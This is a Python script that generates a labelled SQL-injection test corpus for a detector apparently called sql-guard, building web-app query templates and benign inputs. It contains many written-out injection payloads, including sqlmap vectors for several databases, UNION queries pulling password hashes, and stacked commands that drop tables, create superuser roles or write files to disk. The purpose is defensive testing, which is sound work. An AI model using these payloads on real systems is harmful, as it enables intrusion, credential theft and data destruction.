#!/usr/bin/env python3
"""Sixth, dev-style SQL-injection corpus for sql-guard: sixth.jsonl.gz.

Python 3.11 standard library only; fixed seed; gzip mtime 0, so

    python3 crates/sql-guard/tests/data/make_sixth.py

rewrites sixth.jsonl.gz byte for byte (``parses`` values are then taken from
the existing file; ``--pg-port PORT`` recomputes them, see below).

Made after dev, generalization, blind, holdout and fresh had all become
tuning targets, by a helper who read only the format/method parts of
``tests/data/README.md``, the rows of the corpora and ``make_fresh.py`` (whose
lexer, labelling method and sqlmap machinery are reused here), never the
guard's source or its test rules, and never tuned against its score.  It
imitates dev: the same families in about dev's proportions, plain
web-application templates like dev's t01..t46 (``sx01``..``sx43``, new), the
same kinds of benign inputs, complex statements filled many times like dev's
``cx_*`` (``sx_cx_*``, new) and statements in the style of PostgreSQL's
regression tests (``pg_regress``, written for this file).  Rows:

* application templates filled with
  - sqlmap-style payloads (boolean blind, time based, error based, UNION
    query, stacked queries, inline queries; PostgreSQL and other DBMSes, as
    sqlmap sends them) wrapped in sqlmap-like boundaries,
  - hand-written PostgreSQL techniques (new variants for this file) and four
    obfuscations of some of them,
  - benign tricky inputs escaped correctly for their slot;
* complex benign statements and regression-test-style statements.

Label: the lexer of make_fresh.py / make_holdout.py (standard conforming
strings on) checks each slot.  A row is ``attack`` only when the input is not
the single token its slot expects; attack strings that stay inside their
literal are benign ``contained_attack_string`` rows; attack strings the
application escaped correctly are benign ``escaped_attack_string`` rows.
Rows whose statement text occurs in one of the other five corpora are
skipped.  As in dev, every benign row parses (regression-style statements
that PostgreSQL 15 rejects were left out of the list).  ``multi_statement``: the lexer finds a ``;`` followed by more than
whitespace and comments.

``parses``: with ``--pg-port PORT`` (a throwaway PostgreSQL 15 listening on
a unix socket in /tmp) every statement is sent as ``SELECT 1/0;`` +
statement in one simple-protocol query: the server parses the whole text
before running anything, so a division-by-zero error means the statement
parsed and any other error means it did not; nothing of the statement runs.
"""
import collections
import gzip
import io
import json
import os
import random
import re
import subprocess
import sys

SEED = 6_0606_2026
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "sixth.jsonl.gz")
OTHER_CORPORA = ["dev.jsonl.gz", "generalization.jsonl.gz", "blind.jsonl.gz", "holdout.jsonl.gz", "fresh.jsonl.gz"]

# ---------------------------------------------------------------------------
# Lexer
# ---------------------------------------------------------------------------
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from sqli_lex import DOLLAR_TAG, ID_CONT, ID_START, NUMBER, OPCH, WS, lex  # noqa: E402,F401


BAD_COL_WORDS = {"select", "union", "from", "where", "and", "or", "limit", "offset", "having",
                 "group", "order", "case", "when", "then", "else", "end", "into", "not"}


def slot_ok(sql, toks, kind, a, b, open_pos, close_len):
    """Is sql[a:b] exactly the one token its slot expects?"""
    if kind in ("str", "estr", "ident", "dollar"):
        want = {"str": "str", "estr": "estr", "ident": "qident", "dollar": "dollar"}[kind]
        for t in toks:
            if t[1] == open_pos:
                return t[0] == want and t[2] == b + close_len
        return False
    inner = [t for t in toks if t[1] < b and t[2] > a]
    if not inner or inner[0][1] != a or inner[-1][2] != b:
        return False
    sig = [t for t in inner if t[0] != "ws"]
    if kind == "num":
        return len(sig) == 1 and sig[0][0] == "num"
    if kind == "bool":
        return len(sig) == 1 and sig[0][0] == "word" and sql[sig[0][1]:sig[0][2]].lower() in ("true", "false")
    if kind == "numlist":
        if not sig or len(sig) % 2 == 0:
            return False
        for k, t in enumerate(sig):
            if k % 2 == 0 and t[0] != "num":
                return False
            if k % 2 == 1 and sql[t[1]:t[2]] != ",":
                return False
        return True
    if any(t[0] not in ("word", "qident") for t in sig):
        return False
    words = [sql[t[1]:t[2]].lower() for t in sig]
    if kind == "dir":
        return words in (["asc"], ["desc"])
    if kind == "col":
        if not words or words[0] in BAD_COL_WORDS:
            return False
        rest = words[1:]
        if rest[:1] in (["asc"], ["desc"]):
            rest = rest[1:]
        if rest in (["nulls", "first"], ["nulls", "last"]):
            rest = []
        return rest == []
    raise ValueError(kind)


# ---------------------------------------------------------------------------
# Templates.  Slots are written {name:kind}; a name may repeat (same input).
# kinds: str estr ident dollar num numlist col dir bool.  close: the right
# closing sequence for a quoted slot (a dict gives one per slot); reopen:
# what rebalances the rest after that close (sqlmap-style suffix); like=True
# for LIKE/ILIKE patterns; vals: benign inputs for a slot (family, [values])
# used besides the generic pools.  Plain web-application queries in the
# style of dev's t01..t46, written new for this file.
# ---------------------------------------------------------------------------
SLOT_RE = re.compile(r"\{(\w+):(\w+)\}")
TEMPLATES = []


def tpl(name, sql, close="'", reopen=" AND 'z'='z", like=False, vals=None, generic=True):
    slots = []
    for m in SLOT_RE.finditer(sql):
        if m.group(1) not in [s[0] for s in slots]:
            slots.append((m.group(1), m.group(2)))
    TEMPLATES.append(dict(name=name, sql=sql, slots=slots, close=close, reopen=reopen, like=like,
                          vals=vals or {}, generic=generic))


def close_of(t, slot):
    c = t["close"]
    return c.get(slot, "'") if isinstance(c, dict) else c


def reopen_of(t, slot):
    r = t["reopen"]
    return r.get(slot, "") if isinstance(r, dict) else r


DAY = ("input_formatted", ["2024-02-29", "2023-11-05", "2025-07-14", "2022-01-31", "20240315", "2024-6-1", "Jan 8, 2025", "2025-12-24"])
NUMSTR = ("input_numeric_string", ["0815", "12", "2.50", "-3", "1e2", "00000", " 9", "4294967296"])

tpl("sx01_article_by_slug",
    "SELECT id, title, body, published_at FROM articles WHERE slug = '{slug:str}' AND published = true",
    vals={"slug": ("input_formatted", ["hello-world", "2024/03/launch-notes", "faq", "why-we-moved-to-postgres", "a-b-c-1-2-3"])})
tpl("sx02_profile_by_user",
    "SELECT user_id, display_name, avatar_url, bio FROM profiles WHERE user_id = {uid:num}",
    close="", reopen="")
tpl("sx03_admin_login_md5",
    "SELECT id, role FROM admins WHERE login = '{login:str}' AND pass_md5 = md5('{pw:str}') LIMIT 1",
    close={"login": "'", "pw": "')"}, reopen={"login": " AND 'z'='z", "pw": " AND ('z'='z"},
    vals={"login": ("input_formatted", ["root", "j.doe", "admin2", "ops-team", "maria_k"]),
          "pw": ("input_punctuation", ["s3cr3t!", "P@55word", "qwerty;123", "pa'ss", "#1-admin", "a b c", "--x--"])})
tpl("sx04_product_name_like",
    "SELECT id, name, price FROM products WHERE name LIKE '%{q:str}%' AND in_stock ORDER BY price LIMIT 30",
    like=True, reopen=" AND '%'='")
tpl("sx05_orders_sort_col",
    "SELECT id, total, status, created_at FROM orders WHERE customer_id = 77 ORDER BY {col:col} LIMIT 25",
    close="", reopen="", vals={"col": ("input_identifier", ["created_at", "total DESC", "status", "id", "\"Created At\" asc", "created_at desc nulls last"])})
tpl("sx06_comments_page",
    "SELECT id, author, body FROM comments WHERE post_id = {pid:num} ORDER BY created_at LIMIT {lim:num} OFFSET {off:num}",
    close="", reopen="")
tpl("sx07_insert_review",
    "INSERT INTO reviews (product_id, rating, title, body) VALUES ({pid:num}, {rating:num}, '{title:str}', '{body:str}')",
    close={"title": "', 'x')", "body": "')"}, reopen={"title": " || 'z", "body": "", "pid": "", "rating": ""})
tpl("sx08_update_email",
    "UPDATE users SET email = '{email:str}', email_verified = false WHERE id = {uid:num}",
    close={"email": "'"}, reopen={"email": ", email_verified = 'z", "uid": ""},
    vals={"email": ("input_url_email", ["new.address@example.com", "first-last@mail.example.co.uk", "x_y@example.io", "o'hara@example.ie", "user+shop@example.net"])})
tpl("sx09_delete_wishlist_item",
    "DELETE FROM wishlist_items WHERE user_id = 9 AND product_id = {pid:num}",
    close="", reopen="")
tpl("sx10_cities_in_countries",
    "SELECT id, name FROM cities WHERE country_id IN ({ids:numlist}) ORDER BY name",
    close=")", reopen=" AND (1=1")
tpl("sx11_questions_sort_dir",
    "SELECT id, title, votes FROM questions WHERE closed = false ORDER BY votes {dir:dir}, id LIMIT 20",
    close="", reopen="")
tpl("sx12_events_by_type_json",
    "SELECT id, occurred_at FROM user_events WHERE data->>'type' = '{t:str}' ORDER BY occurred_at DESC LIMIT 50",
    vals={"t": ("input_plain", ["page_view", "signup", "checkout.completed", "button-click", "logout"])})
tpl("sx13_invoice_by_number",
    "SELECT id, amount, due_date, paid FROM invoices WHERE invoice_no = '{no:str}'",
    reopen=" AND 'z'='z", vals={"no": ("input_formatted", ["INV-2024-0007", "2025/000123", "F-88-A", "inv#4410", "R 1002"])})
tpl("sx14_bookings_between",
    "SELECT id, room_no, guest_name FROM bookings WHERE check_in BETWEEN '{d1:str}' AND '{d2:str}' ORDER BY check_in",
    close={"d1": "'", "d2": "'"}, reopen={"d1": "", "d2": " AND 'z'='z"}, vals={"d1": DAY, "d2": DAY})
tpl("sx15_posts_by_tag_join",
    "SELECT p.id, p.title FROM posts p JOIN post_tags pt ON pt.post_id = p.id WHERE pt.tag = '{tag:str}' ORDER BY p.id DESC LIMIT 20")
tpl("sx16_newsletter_signup",
    "INSERT INTO newsletter_subscribers (email, source) VALUES ('{email:str}', 'footer') ON CONFLICT (email) DO NOTHING",
    close="', 'footer')", reopen=" || 'z",
    vals={"email": ("input_url_email", ["reader@example.com", "a.b.c@example.org", "news+2025@example.net", "d'souza@example.in"])})
tpl("sx17_change_password",
    "UPDATE accounts SET password_hash = crypt('{pw:str}', gen_salt('bf')), updated_at = now() WHERE id = {uid:num}",
    close={"pw": "', gen_salt('bf'))"}, reopen={"pw": " || ('z", "uid": ""},
    vals={"pw": ("input_punctuation", ["N3w-Pa55!", "correct;horse", "\"quoted\"", "x'y'z", "$money$", "100%sure"])})
tpl("sx18_stock_below",
    "SELECT sku, qty FROM stock_levels WHERE warehouse = '{wh:str}' AND qty < {min:num} ORDER BY qty",
    close={"wh": "'"}, reopen={"wh": " AND 'z'='z", "min": ""},
    vals={"wh": ("input_plain", ["north", "DUB-2", "main depot", "berlin", "W3"])})
tpl("sx19_thread_messages",
    "SELECT id, sender, body, sent_at FROM messages WHERE thread_id = {tid:num} AND deleted = false ORDER BY sent_at",
    close="", reopen="")
tpl("sx20_city_autocomplete",
    "SELECT name, population FROM cities WHERE lower(name) LIKE lower('{q:str}%') ORDER BY population DESC LIMIT 10",
    close="%')", like=True, reopen=" AND ('z%'='z")
tpl("sx21_user_by_email_ilike",
    "SELECT id, username FROM users WHERE email ILIKE '{email:str}' AND deleted_at IS NULL",
    vals={"email": ("input_url_email", ["Someone@Example.com", "ADMIN@EXAMPLE.ORG", "jo.o'neil@example.com", "x@y.z"])})
tpl("sx22_signups_group_by",
    "SELECT {dim:col}, count(*) AS n FROM signups WHERE created_at >= date '2025-01-01' GROUP BY {dim:col} ORDER BY n DESC",
    close="", reopen="", vals={"dim": ("input_identifier", ["country", "plan", "referrer", "signup_day", "\"utm source\""])})
tpl("sx23_audit_by_actor",
    "SELECT action, target, created_at FROM audit_trail WHERE actor_id = {aid:num} AND action = '{act:str}' ORDER BY created_at DESC",
    close={"act": "'"}, reopen={"act": " AND 'z'='z", "aid": ""},
    vals={"act": ("input_plain", ["login", "delete", "role.change", "export", "password_reset"])})
tpl("sx24_page_views_interval",
    "SELECT path, count(*) FROM page_views WHERE viewed_at > now() - interval '{span:str}' GROUP BY path ORDER BY 2 DESC LIMIT 20",
    vals={"span": ("input_formatted", ["7 days", "24 hours", "1 month", "90 minutes", "2 weeks", "1 year"])})
tpl("sx25_prefs_theme_update",
    "UPDATE user_prefs SET prefs = jsonb_set(prefs, '{{theme}}', to_jsonb('{theme:str}'::text)) WHERE user_id = 12",
    close="'::text))", reopen=" || ('z",
    vals={"theme": ("input_plain", ["dark", "light", "high-contrast", "solarized", "system"])})
tpl("sx26_table_count_ident",
    "SELECT count(*) FROM \"{tbl:ident}\" WHERE created_at > now() - interval '7 days'",
    close='"', reopen="")
tpl("sx27_snippet_dollar",
    "INSERT INTO snippets (owner_id, lang, code) VALUES (5, 'sql', $code${code:dollar}$code$) RETURNING id",
    close="$code$", reopen="")
tpl("sx28_task_note_estr",
    "UPDATE tasks SET note = E'{note:estr}', updated_at = now() WHERE id = {tid:num}",
    close={"note": "'"}, reopen={"note": ", note = E'z", "tid": ""})
tpl("sx29_listings_featured",
    "SELECT id, title, price FROM listings WHERE is_featured = {flag:bool} AND city_id = 4 ORDER BY price",
    close="", reopen="")
tpl("sx30_products_price_range",
    "SELECT id, name, price FROM products WHERE price >= {lo:num} AND price <= {hi:num} ORDER BY price",
    close="", reopen="")
tpl("sx31_ticket_websearch",
    "SELECT id, subject FROM support_tickets WHERE search_vec @@ websearch_to_tsquery('simple', '{q:str}') ORDER BY id DESC LIMIT 40",
    close="')", reopen=" AND ('z'='z")
tpl("sx32_coupon_redeem",
    "UPDATE coupons SET redeemed_at = now(), redeemed_by = {uid:num} WHERE code = upper('{code:str}') AND redeemed_at IS NULL",
    close={"code": "')"}, reopen={"code": " AND ('z'='z", "uid": ""},
    vals={"code": ("input_formatted", ["welcome10", "BLACKFRIDAY", "xmas-2025", "free_ship", "A1B2C3"])})
tpl("sx33_country_code_or_name",
    "SELECT code, name, currency FROM countries WHERE code = '{cc:str}' OR name = '{cc:str}'",
    vals={"cc": ("input_plain", ["DE", "France", "gb", "Côte d'Ivoire", "United States"])})
tpl("sx34_department_cte",
    "WITH dept AS (SELECT id FROM departments WHERE name = '{dept:str}') SELECT e.id, e.full_name FROM employees e JOIN dept d ON e.dept_id = d.id",
    close="')", reopen=" AND ('z'='z",
    vals={"dept": ("input_plain", ["Engineering", "R&D", "Sales", "customer success", "Legal"])})
tpl("sx35_user_post_counts",
    "SELECT u.username, count(p.id) AS posts FROM users u LEFT JOIN posts p ON p.author_id = u.id WHERE u.id = {uid:num} GROUP BY u.username",
    close="", reopen="")
tpl("sx36_api_key_check",
    "SELECT client_id, scopes FROM api_keys WHERE key_hash = encode(digest('{key:str}', 'sha256'), 'hex') AND revoked = false",
    close="', 'sha256'), 'hex')", reopen=" AND ('z'='z",
    vals={"key": ("input_formatted", ["sk_live_51H8xYz", "pk_test_00aa11bb", "c0ffee-ba5e-4a11", "AKIAIOSFODNN7EXAMPLE"])})
tpl("sx37_logs_by_level",
    "SELECT ts, message FROM app_logs WHERE level = '{lvl:str}' AND ts > now() - interval '1 hour' ORDER BY ts DESC LIMIT {n:num}",
    close={"lvl": "'"}, reopen={"lvl": " AND 'z'='z", "n": ""},
    vals={"lvl": ("input_plain", ["error", "WARN", "info", "debug", "fatal"])})
tpl("sx38_playlist_reorder",
    "UPDATE playlist_items SET position = {pos:num} WHERE playlist_id = {pl:num} AND track_id = {tr:num}",
    close="", reopen="")
tpl("sx39_insert_address",
    "INSERT INTO addresses (user_id, street, city, postcode) VALUES ({uid:num}, '{street:str}', '{city:str}', '{pc:str}') RETURNING id",
    close={"street": "', 'x', 'x')", "city": "', 'x')", "pc": "')"}, reopen={"street": " || 'z", "city": " || 'z", "pc": "", "uid": ""},
    vals={"pc": ("input_formatted", ["10115", "SW1A 1AA", "75008", "H0H 0H0", "1010-001", "D02 X285"])})
tpl("sx40_order_items_in",
    "SELECT order_id, sum(qty) AS units FROM order_items WHERE product_id IN ({ids:numlist}) GROUP BY order_id",
    close=")", reopen=" AND (1=1")
tpl("sx41_restaurants_rating_dir",
    "SELECT id, name, rating FROM restaurants WHERE city = 'Lyon' ORDER BY rating {dir:dir} NULLS LAST LIMIT 15",
    close="", reopen="")
tpl("sx42_webinar_local_time",
    "SELECT id, title, starts_at AT TIME ZONE '{tz:str}' AS local_start FROM webinars WHERE id = {wid:num}",
    close={"tz": "'"}, reopen={"tz": " AS a, 'z", "wid": ""},
    vals={"tz": ("input_formatted", ["Europe/Paris", "America/New_York", "UTC", "Asia/Tokyo", "+05:30", "Australia/Lord_Howe"])})
tpl("sx43_order_cancel",
    "UPDATE orders SET status = 'cancelled', cancel_reason = '{why:str}' WHERE id = {oid:num} AND status = 'pending' RETURNING id",
    close={"why": "'"}, reopen={"why": ", note = 'z", "oid": ""})

# ---------------------------------------------------------------------------
# Random helpers
# ---------------------------------------------------------------------------
R = random.Random(SEED)


def rnum():
    return str(R.randint(1000, 9999))


def rstr(k=4, alpha="abcdefghijklmnopqrstuvwxyz"):
    return "".join(R.choice(alpha) for _ in range(k))


def rmix(k=4):
    return rstr(k, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")


def marker():
    return "q" + rstr(3) + "q"


def pg_chr(s):
    return "(" + "||".join(f"CHR({ord(c)})" for c in s) + ")"


def ms_char(s):
    return "+".join(f"CHAR({ord(c)})" for c in s)


def my_hex(s):
    return "0x" + "".join(f"{ord(c):02x}" for c in s)


def subst(v):
    """Fill sqlmap-like placeholders: [N] [N1] [N2] random numbers, [T] sleep
    time, [H] heavy count, [S] random string, [DS]/[DE] delimiters as plain
    text, [DSC]/[DEC] as CHR() chains, [DSH]/[DEH] hex, [DSM]/[DEM] CHAR()+."""
    n, n1, n2 = rnum(), rnum(), rnum()
    ds, de = marker(), marker()
    rep = {
        "[N]": n, "[N1]": n1, "[N2]": n2, "[T]": str(R.choice([5, 5, 5, 2, 4, 6, 9])),
        "[H]": R.choice(["5000000", "9000000", "20000000", "1000000"]), "[S]": rmix(4),
        "[DS]": ds, "[DE]": de, "[DSC]": pg_chr(ds), "[DEC]": pg_chr(de), "[DSH]": my_hex(ds), "[DEH]": my_hex(de),
        "[DSM]": ms_char(ds), "[DEM]": ms_char(de), "[K]": str(R.randint(1, 16)), "[A]": str(R.randint(47, 121)),
        "[SH]": my_hex(rmix(4)),
    }
    for k, val in rep.items():
        v = v.replace(k, val)
    return v


PG_QUERIES = [
    "current_user", "version()", "current_database()", "session_user", "current_schema()", "inet_client_addr()::text",
    "(SELECT usename FROM pg_user OFFSET 0 LIMIT 1)", "(SELECT COUNT(*) FROM pg_tables)::text",
    "(SELECT string_agg(usename,CHR(59)) FROM pg_user)", "(SELECT rolpassword FROM pg_authid LIMIT 1)",
    "(SELECT column_name FROM information_schema.columns WHERE table_name=CHR(117)||CHR(115)||CHR(101)||CHR(114)||CHR(115) LIMIT 1 OFFSET 1)",
    "current_setting(CHR(112)||CHR(111)||CHR(114)||CHR(116))",
]

# Extra sqlmap vectors (titles as in sqlmap's payload files) used besides the
# ones above, so that this corpus has payload variants of its own.
SQLMAP_EXTRA = [
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (comment)", "AND [N]=[N]--"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause (comment)", "OR [N]=[N]#"),
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (NOT)", "AND NOT [N]=[N1]"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (original value - comment)", "(SELECT (CASE WHEN ([N]=[N]) THEN [V] ELSE [N1] END))"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST - comment)", "AND (SELECT (CASE WHEN ([N]=[N]) THEN NULL ELSE CAST(([DSC]) AS NUMERIC) END)) IS NULL--"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - Parameter replace (original value)", "(SELECT (CASE WHEN ([N]=[N]) THEN [V] ELSE 1/(SELECT 0) END))"),
    ("boolean", "PostgreSQL", "PostgreSQL OR boolean-based blind - inference (COUNT pg_tables)", "OR (SELECT COUNT(*) FROM pg_tables)>[K]"),
    ("boolean", "MySQL", "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "OR MAKE_SET([N]=[N1],[N2])"),
    ("boolean", "MySQL", "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (bool*int)", "AND ([N]=[N])*[N1]"),
    ("boolean", "Oracle", "Oracle AND boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "AND (SELECT (CASE WHEN ([N]=[N]) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,[N]) END) FROM DUAL) IS NULL"),
    ("boolean", "Microsoft SQL Server", "Microsoft SQL Server/Sybase OR boolean-based blind - WHERE or HAVING clause (IIF)", "OR IIF([N]=[N1],1,1/0)=1"),
    ("boolean", "IBM DB2", "IBM DB2 AND boolean-based blind - WHERE or HAVING clause", "AND [N]=(SELECT [N] FROM SYSIBM.SYSDUMMY1 WHERE [N]=[N])"),
    ("boolean", "HSQLDB", "HSQLDB AND boolean-based blind - WHERE or HAVING clause", "AND [N]=(CASE WHEN [N]=[N] THEN [N] ELSE NULL END)"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 OR time-based blind (comment)", "OR [N]=(SELECT [N] FROM PG_SLEEP([T]))--"),
    ("time", "PostgreSQL", "PostgreSQL OR time-based blind (heavy query - comment)", "OR [N]=(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))--"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 time-based blind - Parameter replace (conditional)", "(SELECT (CASE WHEN ([N]=[N]) THEN (SELECT [N] FROM PG_SLEEP([T])) ELSE [N] END))"),
    ("time", "PostgreSQL", "PostgreSQL OR time-based blind - inference (LENGTH)", "OR [N]=(CASE WHEN (LENGTH([Q])>[K]) THEN (SELECT [N] FROM PG_SLEEP([T])) ELSE [N] END)"),
    ("time", "MySQL", "MySQL >= 5.0.12 RLIKE time-based blind", "RLIKE SLEEP([T])"),
    ("time", "MySQL", "MySQL >= 5.0.12 AND time-based blind (SLEEP - comment)", "AND SLEEP([T])#"),
    ("time", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6)"),
    ("time", "Oracle", "Oracle AND time-based blind", "AND [N]=DBMS_PIPE.RECEIVE_MESSAGE(CHR(106)||CHR(107)||CHR(108)||CHR(120),[T])"),
    ("time", "IBM DB2", "IBM DB2 AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)"),
    ("time", "HSQLDB", "HSQLDB >= 1.7.2 AND time-based blind (heavy query)", "AND CHAR([A])||CHAR([A])=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR([N]),0),[H]),NULL)"),
    ("time", "ClickHouse", "ClickHouse AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(fuzzBits('[S]', 0.001)) FROM numbers([H]))"),
    ("time", "Firebird", "Firebird >= 2.0 AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)"),
    ("error", "PostgreSQL", "PostgreSQL OR error-based - WHERE or HAVING clause (literal delimiters)", "OR [N]=CAST('[DS]'||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||'[DE]' AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL AND error-based - WHERE or HAVING clause (data extraction - comment)", "AND [N]=CAST([DSC]||(SELECT COALESCE(CAST([Q] AS VARCHAR(10000))::text,(CHR(32))))::text||[DEC] AS NUMERIC)--"),
    ("error", "PostgreSQL", "PostgreSQL error-based - ORDER BY or GROUP BY clause (GENERATE_SERIES)", ",(CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC) FROM GENERATE_SERIES(1,1))"),
    ("error", "MySQL", "MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "AND GTID_SUBSET(CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH]),[N])"),
    ("error", "MySQL", "MySQL >= 5.7.8 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (JSON_KEYS)", "AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH])) USING utf8)))"),
    ("error", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONVERT)", "AND [N]=CONVERT(INT,(SELECT [DSM]+(SELECT (CASE WHEN ([N]=[N]) THEN CHAR(49) ELSE CHAR(48) END))+[DEM]))"),
    ("error", "Oracle", "Oracle AND error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "AND [N]=UTL_INADDR.GET_HOST_ADDRESS([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) FROM DUAL)||[DEC])"),
    ("error", "IBM DB2", "IBM DB2 AND error-based - WHERE or HAVING clause", "AND [N]=RAISE_ERROR('70001',[DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) FROM SYSIBM.SYSDUMMY1)||[DEC])"),
    ("error", "ClickHouse", "ClickHouse AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause", "AND [N]=('[DS]'||CAST((CASE WHEN ([N]=[N]) THEN '1' ELSE '0' END) AS String)||'[DE]')"),
    ("error", "Firebird", "Firebird AND error-based - WHERE or HAVING clause", "AND [N]=('[DS]'||(SELECT CASE [N] WHEN [N] THEN 1 ELSE 0 END FROM RDB$DATABASE)||'[DE]')"),
    ("stacked", "PostgreSQL", "PostgreSQL stacked queries (heavy query - comment)", ";SELECT COUNT(*) FROM GENERATE_SERIES(1,[H])--"),
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries (conditional)", ";SELECT (CASE WHEN ([N]=[N]) THEN (SELECT [N] FROM PG_SLEEP([T])) ELSE [N] END)"),
    ("stacked", "PostgreSQL", "PostgreSQL < 8.2 stacked queries (Glibc - comment)", ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep([T])--"),
    ("stacked", "PostgreSQL", "PostgreSQL takeover - file write (--file-write)", ";SELECT lo_from_bytea([N],decode('[SH]','hex'));SELECT lo_export([N],'/tmp/[S].so');--"),
    ("stacked", "Microsoft SQL Server", "Microsoft SQL Server/Sybase stacked queries (comment)", ";WAITFOR DELAY '0:0:[T]'--"),
    ("stacked", "Oracle", "Oracle stacked queries (DBMS_LOCK.SLEEP - comment)", ";BEGIN DBMS_LOCK.SLEEP([T]); END--"),
    ("stacked", "MySQL", "MySQL >= 5.0.12 stacked queries (comment)", ";SELECT SLEEP([T])#"),
    ("inline", "PostgreSQL", "PostgreSQL inline queries (comment)", "(SELECT [DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC])"),
    ("inline", "Firebird", "Firebird inline queries", "(SELECT '[DS]'||(CASE [N] WHEN [N] THEN 1 ELSE 0 END)||'[DE]' FROM RDB$DATABASE)"),
]

# ---------------------------------------------------------------------------
# Hand-written PostgreSQL attack cores (new for this corpus).  A core
# follows a closed slot; the boundary adds a tail.
# ---------------------------------------------------------------------------
HAND = {
    "tautology": [
        "OR 9=9", "OR 'w'='w'", "OR 4<5", "OR 1", "OR 'x'<>'y'", "OR 2 BETWEEN 0 AND 3", "OR 6 IN (5,6,7)", "OR true",
        "OR NOT false", "OR 'admin' IS NOT NULL", "OR 10>=10", "OR 'abc'='a'||'bc'", "OR 3*3=9", "OR 'yes'::boolean",
        "OR 1=1 LIMIT 1", "OR length('ab')=2", "OR lower('Q')='q'", "OR 'x' NOT IN ('y')", "OR 0 IS NOT NULL",
        "OR coalesce(NULL, 1)=1", "OR abs(-2)=2", "OR 'm' BETWEEN 'a' AND 'z'", "OR EXISTS(SELECT 1)", "OR 44 <> 45",
        "OR (SELECT true)", "OR 'a'='a' AND 'b'='b'", "OR 1::bool", "OR 8=8 --", "OR trim(' s ')='s'",
    ],
    "union": [
        "UNION SELECT username, password FROM users", "UNION ALL SELECT table_schema, table_name FROM information_schema.tables",
        "UNION SELECT datname, NULL FROM pg_database", "UNION ALL SELECT usename, passwd FROM pg_shadow",
        "UNION SELECT current_user, current_database()", "UNION ALL SELECT proname, prosrc FROM pg_proc LIMIT 5",
        "UNION SELECT key_hash, client_id::text FROM api_keys", "UNION DISTINCT SELECT name, setting FROM pg_settings WHERE name LIKE '%pass%'",
        "UNION SELECT NULL, NULL", "UNION ALL SELECT 'a', 'b', 'c'", "UNION (SELECT login, pass_md5 FROM admins)",
        "UNION ALL SELECT relname, relkind::text FROM pg_class WHERE relnamespace=2200",
    ],
    "stacked": [
        "; DROP TABLE users", "; DELETE FROM orders", "; UPDATE accounts SET password_hash = crypt('pwned', gen_salt('bf'))",
        "; INSERT INTO admins (login, pass_md5, role) VALUES ('eve', md5('eve'), 'owner')", "; ALTER USER app WITH SUPERUSER",
        "; CREATE ROLE intruder LOGIN SUPERUSER PASSWORD 'intruder'", "; TRUNCATE TABLE audit_trail", "; DROP DATABASE production",
        "; UPDATE admins SET role='owner' WHERE login='guest'", "; GRANT pg_read_server_files TO app", "; SET ROLE postgres; DROP TABLE invoices",
        "; ALTER TABLE accounts DISABLE ROW LEVEL SECURITY", "; SELECT pg_reload_conf()", "; DELETE FROM api_keys WHERE true",
        "; CREATE TABLE pwn AS SELECT * FROM accounts", "; DROP OWNED BY app CASCADE", "; VACUUM FULL", "; SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
    ],
    "time_pg_sleep": [
        "AND 3=(SELECT 3 FROM pg_sleep(8))", "OR (SELECT pg_sleep(6)) IS NULL", "AND pg_sleep(5)::text=''",
        "AND (SELECT count(*) FROM pg_sleep(2) CROSS JOIN generate_series(1,3))=3", "; SELECT pg_sleep(10)--",
        "AND 1=(SELECT CASE WHEN current_user='postgres' THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)",
